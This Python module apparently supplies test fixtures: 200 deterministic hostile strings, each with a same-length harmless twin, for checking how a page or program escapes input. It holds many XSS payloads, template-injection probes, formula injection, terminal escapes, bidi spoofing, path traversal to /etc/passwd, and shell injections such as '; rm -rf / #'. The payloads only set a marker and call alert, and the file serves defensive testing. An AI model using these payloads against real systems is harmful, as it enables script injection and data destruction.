"""Two hundred texts that try to be more than text, each with a harmless twin of the same length."""

from __future__ import annotations

import random
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cached_property

COUNT = 200
MARKER = "hostile_script_ran"
"""What a text's script calls or sets: `window.hostile_script_ran` exists only where one ran."""
_RUN = f"window.{MARKER}=(window.{MARKER}||'')+'{{n}};';alert({{n}})"
_LONG = 10_000

# Every form holds {n}, the text's number, so that no two are the same, and {run}, what it would run.
FORMS = {
    "script element": (
        "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT\t>",
        "<script src=//example.invalid/{n}.js></script>", "<<script>{run}//<</script>",
        "<script\x0c>{run}</script>",
    ),
    "event handler": (
        "<img src=x onerror=\"{run}\">", "<body onload={run}>", "<details open ontoggle=\"{run}\">{n}",
        "<input autofocus onfocus=\"{run}\">", "<video><source onerror=\"{run}\"></video>",
        "<iframe srcdoc=\"&lt;script&gt;parent.{run}&lt;/script&gt;\">",
    ),
    "quoted attribute": (
        "\"><img src=x onerror=\"{run}\">", "' onmouseover='{run}' x='",
        "\" autofocus onfocus=\"{run}\" x=\"", "` onload=`{run}`", "x{n} onclick={run} y",
    ),
    "address": (
        "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "\x01javascript:{run}",
        "data:text/html,<script>{run}</script>", "vbscript:msgbox({n})", "//example.invalid/{n}",
        "https://example.invalid/{n}?q=<script>{run}</script>",
    ),
    "picture": (
        "<svg onload=\"{run}\">", "<svg><script>{run}</script></svg>",
        "<svg><a xlink:href=\"javascript:{run}\">{n}",
        "<svg><animate onbegin=\"{run}\" attributeName=x dur=1s>", "</title></svg><svg onload={run}>",
        "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={run}>",
    ),
    "template": (
        "{{{{ 7*7 }}}}{n}", "{{% for x in (1,2) %}}{n}{{% endfor %}}", "${{7*7}}{n}", "#{{7*7}}{n}",
        "<%= 7*7 %>{n}", "{{{{ self.__init__.__globals__ }}}}{n}", "{{0.__class__}}{n}", "%(call_id)s%n{n}",
        "{{{{call.heading}}}}{n}",
    ),
    "style": (
        "</style><script>{run}</script>", "x{n};}}body{{display:none}}", "expression({run})",
        "<style>*{{display:none}}</style>{n}", "url(javascript:{run})",
        "<link rel=stylesheet href=//example.invalid/{n}.css>",
        "\" style=\"position:fixed;inset:0\" x{n}=\"",
    ),
    "end of data": (
        "</script><script>{run}</script>", "<!--<script>{n}", "-->{n}<script>{run}</script>",
        "]]><script>{run}</script>", "\";{run};//", "'-{run}-'", "\\\";{run}//", "\u2028{run}\u2029",
        "*/{run}/*", "<!-- {n} --!><img src=x onerror={run}>",
    ),
    "element of the page": (
        "</main></body></html>{n}", "</td></tr></table><h1>{n}</h1>", "<base href=//example.invalid/{n}/>",
        "<form action=//example.invalid/{n}><button>go</button></form>", "<plaintext>{n}", "<textarea>{n}",
        "<meta http-equiv=refresh content='0;url=//example.invalid/{n}'>",
        "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
        "<a href=//example.invalid/{n} target=_blank>click</a>",
        "<template><script>{run}</script></template>",
    ),
    "entity": (
        "&lt;script&gt;{run}&lt;/script&gt;", "&#60;img src=x onerror={run}&#62;", "&{n};&amp;&nbsp;&",
        "&#x{n};&#0;&#xd800;",
    ),
    "direction": (
        "\u202e{n}gnp.exe\u202c", "\u2066\u2067{n}\u2068<b>\u2069", "שלום \u202d{n}<b>\u202c הפוך",
        "\u200f{n}\u200e<i>\u061c", "\u202b\u202b\u202b{n} never closed",
        "שלום <b>{n}</b> abc (1) \"ציטוט\"",
    ),
    "control": (
        "a\x00{n}<script>{run}</script>", "\x1b[31m{n}\x1b[0m", "\x1b]0;title{n}\x07",
        "\x1b]8;;https://example.invalid/\x07{n}\x1b]8;;\x07", "\x9b2J{n}", "{n}\rover", "{n}\x08\x08\x7f",
        "\x1bc{n}\x0e\x0f", "\x1b[6n{n}\x05", "line{n}\nfeed\x0b\x0c",
    ),
    "broken letters": (
        "\ud800{n}", "{n}\udfff\ud800", "\udce9call{n}.wav", "\ufffe{n}\uffff", "\ufeff{n}\ufeff",
        "e" + "\u0301" * 60 + "{n}", "👩\u200d👩\u200d👧{n}\ue000", "\U0010ffff{n}",
    ),
    "long word": (
        "x{n}" + "w" * _LONG, "{n}" + "ש" * _LONG, "<b>{n}" + "<" * _LONG, "&" * _LONG + "{n}",
        "{n}" + "\u00ad" * 50 + "y" * _LONG, "_" * _LONG + "{n}",
    ),
    "name of a file": (
        "../../../../tmp/{n}", "C:\\con{n}|\"*?", "file:///etc/passwd#{n}", "{n}; rm -rf / #",
        "$(touch {n})`id`", "-rf{n}", "=HYPERLINK(\"//example.invalid/{n}\")", "constructor{n}",
        "__proto__", "hasOwnProperty{n}",
    ),
    "markup of papers": (
        "#eval(\"{n}\")", "#link(\"https://example.invalid/{n}\")[x]", "$ {n} $ #import \"x\"",
        "#set page(width: {n}pt)", "`{n}` *b* _i_", "\\input{{{n}}} @{n} <label{n}>",
        "[bold]{n}[/bold][link=https://example.invalid]x[/link]", "/* {n}", "// {n} \\ ~ --- #",
        "(JavaScript) /JS /URI {n} >> endobj",
    ),
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """One text: its number, the kind of attack, and the text."""

    number: int
    kind: str
    text: str

    @cached_property
    def harmless(self) -> str:
        """As long, with its blanks and directions, and nothing in it that means anything to a program."""
        twin = "".join(_harmless(letter) for letter in self.text)
        return twin if twin != self.text else f"x{self.number}".ljust(len(twin), "x")[: len(twin)]


def hostile_texts(count: int = COUNT) -> tuple[Hostile, ...]:
    """`count` texts, the same in every run: each form in turn, kinds mixed, then forms joined in pairs."""
    rest = {kind: list(forms) for kind, forms in FORMS.items()}
    drawn = random.Random(7)
    made: list[Hostile] = []
    while len(made) < count:
        kind = sorted(FORMS)[len(made) % len(FORMS)]
        if rest[kind]:
            form = rest[kind].pop(0)
        else:
            short = [form for form in FORMS[kind] if len(form) < 200]
            other = drawn.choice([form for forms in FORMS.values() for form in forms if len(form) < 200])
            form = drawn.choice(short or ["<b>{n}"]) + drawn.choice(("", " ", "\n", "\t", '"', "'")) + other
        number = len(made) + 100
        made.append(Hostile(number, kind, form.format(n=number, run=_RUN.format(n=number))))
    return tuple(made)


def spelled(text: str) -> Iterator[str]:
    """A text as a page may show it: as it is, with controls written out, or without them; see `evened`."""
    from speechqa.core.plain import cleaned, printable

    for shown in (printable(text), cleaned(text), text):
        yield evened(shown)


def evened(text: str) -> str:
    """Without what a page may change of a text: capitals, blanks, and what parts the words of a name."""
    blanks_alone = re.sub(r"[\s_]+", " ", text.casefold().replace("\x00", "\ufffd"))
    return re.sub(r"( of |[ .])+", " ", blanks_alone).strip()


def _harmless(letter: str) -> str:
    if letter.isascii() and letter.isalnum():
        return letter
    if letter in " _":
        return letter
    return "א" if unicodedata.bidirectional(letter) in ("R", "AL") and letter.isalpha() else "x"
